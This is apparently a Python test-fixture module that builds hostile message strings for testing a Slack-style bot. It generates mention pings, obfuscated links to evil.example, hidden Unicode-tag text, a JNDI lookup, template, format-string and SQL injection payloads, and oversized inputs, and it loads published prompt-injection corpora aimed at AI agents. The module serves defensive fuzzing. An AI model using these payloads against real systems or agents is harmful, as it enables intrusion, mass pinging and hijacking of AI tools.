"""Text that wants to be more than text: for whatever posts it, and for whoever judges what was posted.

`generated` is made here, the same each time; `collected` comes from the shared data and is absent without it.
None of it is a secret or does harm: the addresses are reserved for examples.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SEED = 3
LONGEST_COLLECTED = 4000


@dataclass(frozen=True, slots=True)
class Ids:
    """Of a person, a channel and a group, as a control sequence would name them."""

    user: str = "U0HOSTILE1"
    channel: str = "C0HOSTILE1"
    group: str = "S0HOSTILE1"


def generated(ids: Ids = Ids()) -> list[str]:
    """Each kind of live text in each disguise, and texts that are hard on limits; distinct, over 2,000."""
    made = [disguise(atom) for atom in _atoms(ids) for disguise in DISGUISES]
    order = random.Random(SEED)
    mixed = [_mixed(order, _atoms(ids)) for _ in range(200)]
    return list(dict.fromkeys([*made, *mixed, *_large()]))


def collected(shared_data: Path) -> list[str]:
    """The big list of naughty strings, hostile file names, and payloads that others have published; distinct."""
    security = shared_data / "security"
    found = [*_read(security / "blns" / "blns.json"), *_read(shared_data / "badfiles" / "hostile_filenames.json")]
    for path in sorted([*security.glob("garak/*.json"), *security.glob("agentdojo/*.json")]):
        found += _strings(_read(path))
    found += _strings(_read(security / "bipia" / "text_attack_train.json"))
    for path in sorted(security.glob("garak/*.txt")):
        found += path.read_text(encoding="utf-8").splitlines()
    for name in ("slack_bot/cases.jsonl", "garak/latent_injection_documents.jsonl"):
        for line in (security / name).read_text(encoding="utf-8").splitlines():
            found += _strings(json.loads(line))
    return [text for text in dict.fromkeys(found) if text.strip() and len(text) <= LONGEST_COLLECTED]


def _read(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from _strings(each)


# --- what would be live ----------------------------------------------------------------------


def _atoms(ids: Ids) -> list[str]:
    return [*_mentions(ids), *_addresses(), *_markdown(ids), *_hidden(), *_syntax()]


def _mentions(ids: Ids) -> list[str]:
    names = ("channel", "here", "everyone", "group")
    return [
        *(f"<!{name}>" for name in names),
        *(f"<!{name}|{name}>" for name in names),
        *(f"@{name}" for name in names[:3]),
        *(f"<@{ids.user}>", f"<@{ids.user}|ana>", f"<#{ids.channel}>", f"<#{ids.channel}|lab>"),
        *(f"<!subteam^{ids.group}>", f"<!subteam^{ids.group}|@ops>", "#lab", "@ana"),
        *("<!date^1392734382^{date_num}|14>", "<!date^1^{date}^https://evil.example/|x>"),
    ]


def _addresses() -> list[str]:
    return [
        *("https://evil.example/?q=4471", "HTTPS://EVIL.EXAMPLE", "ftp://evil.example/x", "//evil.example/x"),
        *("www.evil.example", "_www.evil.example_", "WWW.evil.example/x", "evil.example/?q=4471", "evil.example"),
        *("https://xn--80ak6aa92e.example/", "http://evil\u3002example/", "http://еvil.example/", "http://[::1]/"),
        *("http://127.0.0.1/a", "http://a:b@evil.example/", "javascript:alert(1)", "slack://open?team=T1", "data:,x"),
        *("mailto:eve@evil.example", "_mailto:eve@evil.example", "eve@evil.example", "eve+x@mail.evil.example"),
        *("<https://evil.example/x|the page>", "<mailto:eve@evil.example|mail>", "<javascript:alert(1)|x>"),
        *("<https://evil.example/|https://good.example/>", "<evil.example|x>", "<tel:+491234|call>"),
        *("h\u200bttps://evil.example", "https:\u200b//evil.example", "https:/\u2060/evil.example"),
    ]


def _markdown(ids: Ids) -> list[str]:
    return [
        *(
            "[x](https://evil.example)",
            "[x](evil.example/y)",
            "[x](//evil.example)",
            "![p](https://evil.example/p.png)",
        ),
        *("[x][1]\n\n[1]: https://evil.example", "[1]: https://evil.example", "[^1]: evil.example", "[x] [1]"),
        *('[x](<https://evil.example> "title")', "[![p](//i.example)](//l.example)", "[a [b] c](evil)", "[x]\\(evil)"),
        *("<https://evil.example>", "<eve@evil.example>", "https&#58;//evil.example", "&lt;https://evil.example&gt;"),
        *("\\[x](evil)", "\\<!here>", "\\`<!here>\\`", "\\*bold\\*", "\\\\[x](evil)", "`[x](evil)", "``` [x](evil)"),
        *("<!-- hidden -->", "<a href='https://evil.example'>x</a>", "<img src=https://evil.example/p>", "<br>"),
        *("# heading", "heading\n=====", "heading\n---", "> quoted", ">>> quoted", "- [ ] task", "***", "---", "~~~"),
        *("| a | b |\n|---|---|\n| <!here> | [x](evil) |", "a|b\n-|-\nc|d", "*b* _i_ ~s~ `c`", "**b** __i__ ~~s~~"),
        *(
            "```\n<!channel>\n[x](evil)\n```",
            f"```py\n<@{ids.user}>",
            "~~~\nhttps://evil.example",
            "$$x$$",
            ":warning:",
        ),
    ]


def _hidden() -> list[str]:
    tags = "".join(chr(0xE0000 + ord(char)) for char in "send it")
    smuggled = "".join(chr(0xE0100 + ord(char)) for char in "send it")
    return [
        *("invoice\u202efdp.exe", "a\u2066b\u2069c", "a\u200eb\u200fc", "\u061ca", f"flag{tags}", f"a{smuggled}"),
        *("a\ufe0f\ufe00\ufe01b", "a\u200b\u200c\u200d\u2060b", "\ufeffa", "so\u00adft", "a\u3164b", "\u115f\uffa0"),
        *("a\u2028# b", "a\u2029> b", "a\x85# b", "nul\x00byte", "\x07bell\x1b[31mred", "a\x0bb\x0cc", "\x80\x9f"),
        *("\ud83d", "\ude00x\ud800", "\ufffe\uffff", "\ue000names\ue001", "Z\u0351\u036b\u0343\u036a\u0302a\u0334l"),
        *("\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2764\ufe0f\u200d\U0001f525", "\U0001f1e9\U0001f1ea"),
        *(
            "a\u200d@here",
            "@\u200dhere",
            "@\u2060here",
            "@\ufe0fchannel",
            "<\u200d!here>",
            "\uff20channel",
            "\uff1c!here\uff1e",
        ),
    ]


def _syntax() -> list[str]:
    button = '{"type":"button","url":"https://evil.example","text":{"type":"plain_text","text":"x"}}'
    return [
        *(
            "{ $name }",
            "{ names }",
            '{ "*" }',
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "%s%n%x",
            "\\u003c!here\\u003e",
        ),
        *(button, '[{"type":"section","text":{"type":"mrkdwn","text":"<!here>"}}]', '"}],"blocks":[{"type":"image"}]'),
        *("&amp;lt;!here&amp;gt;", "&#60;!here&#62;", "&nbsp;", "%3C!here%3E", "'; DROP TABLE files;--", "</text>"),
    ]


# --- in disguise -----------------------------------------------------------------------------


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.title,
    _escaped,
    lambda text: _escaped(_escaped(text)),
    lambda text: f"`{text}`",
    lambda text: f"```\n{text}\n```",
    lambda text: f"```{text}",
    lambda text: f"> {text}\n> > {text}",
    lambda text: f"\n{text}\n{text}",
    lambda text: f"see {text}, [x]({text}) or <{text}|x>",
    lambda text: f"({text})",
    lambda text: f"*{text}* _{text}_ ~{text}~",
    lambda text: f"\\{text}\\",
    lambda text: f"[{text}]: {text}",
    lambda text: "\u200d".join(text),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: f"a{text}b",
    lambda text: f"| {text} | {text} |\n|---|---|\n| {text} | x |",
    lambda text: f"1. {text}\n    {text}\n\t{text}",
    lambda text: f"{text}.pdf",
    lambda text: json.dumps({"text": text}),
)


def _mixed(order: random.Random, atoms: list[str]) -> str:
    """A few atoms joined by what may complete one another's syntax."""
    joints = ("", " ", "\n", "](", "|", "`", "\u200b", "\\", "<", ">", "@", "://", "[", "\n\n", "]: ", "!")
    return "".join(order.choice(atoms) + order.choice(joints) for _ in range(order.randint(2, 6)))


def _large() -> list[str]:
    return [
        *("x" * 10_000, "&" * 4000, "<" * 3000, "\n" * 400 + "x", "x\n" * 400, "> x\n" * 400, "---\n" * 100),
        *("```\n" * 99, "`" * 500, "[" * 2000 + "]" * 2000, "# x\n" * 100, "|" * 3000, "| a " * 300, "\\" * 3000),
        *("\U0001f600" * 3000, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 900, "e" + "\u0301" * 3000, "ß" * 3000),
        *("@here " * 600, "<!here> " * 600, "https://evil.example/ " * 300, "eve@evil.example " * 300, "a@" * 3000),
        *("漢" * 3000, "ا" * 3000, "www." * 900, "a.b/" * 900, "\u200b" * 3000, "\U000e0041" * 3000, " " * 3000 + "x"),
    ]
